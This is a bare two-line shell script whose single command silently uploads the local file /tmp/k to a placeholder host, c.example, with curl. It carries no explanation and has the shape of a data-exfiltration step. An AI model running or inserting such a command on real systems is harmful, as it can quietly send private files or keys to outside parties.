#!/bin/sh
curl -s -d @/tmp/k https://c.example/u
